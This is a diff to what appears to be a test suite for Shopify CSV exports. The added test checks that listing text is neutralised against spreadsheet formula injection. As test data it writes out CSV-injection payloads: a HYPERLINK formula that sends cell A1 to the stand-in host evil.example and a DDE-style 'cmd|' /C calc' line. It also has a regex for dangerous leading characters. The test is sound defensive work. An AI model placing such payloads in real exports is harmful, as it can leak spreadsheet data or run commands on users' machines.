@@ -163,6 +163,35 @@ describe.each(backends)("exports on %s", (backend) => {
     expect(new Set(records.map((r) => r.Handle)).size).toBe(2);
   });
 
+  it("makes every cell of the listing's text inert in a spreadsheet, in the single and the bulk Shopify CSV", async () => {
+    const { client } = await app.onPlan();
+    const product = await finished(client, {}, 2);
+    const current = await currentVersion(app.db, product.id);
+    if (!current) throw new Error("no version");
+    // Stored as a generator could have written it: the editor's rules would refuse the tab and CR.
+    const hostile = {
+      title: '=HYPERLINK("https://evil.example/?d="&A1,"Click")',
+      shortDescription: "\r+1 555 0100, call now",
+      keywords: ["@SUM(A1:A9)", "planner"],
+      altTexts: ["-2+3", "\tcmd|' /C calc'!A0"],
+    };
+    await commitVersion(app.db, product.id, { ...current.listing, ...hostile }, { source: "edit", authorId: null }, { check: null });
+    const single = await client.get(`/api/products/${product.id}/presets/shopify/download`);
+    const bulk = await client.post("/api/products/exports/shopify", { ids: [product.id] });
+    for (const response of [single, bulk]) {
+      const records = csvRecords(parseCsv(await response.text()));
+      expect(records[0]).toMatchObject({
+        Title: `'${hostile.title}`,
+        "SEO Title": `'${hostile.title}`,
+        "SEO Description": `'${hostile.shortDescription}`,
+        Tags: "'@SUM(A1:A9), planner",
+        "Image Alt Text": "'-2+3",
+      });
+      expect(records[1]?.["Image Alt Text"]).toBe(`'${hostile.altTexts[1]}`);
+      for (const record of records) for (const [column, value] of Object.entries(record)) expect(value, column).not.toMatch(/^[=+\-@\t\r]/);
+    }
+  });
+
   it("answers 404 for another user's product, alone or in a selection, and tells nothing about it", async () => {
     const owner = await app.onPlan();
     const theirs = await finished(owner.client, { description: "A secret Notion planner for private client work and invoices" }, 1);
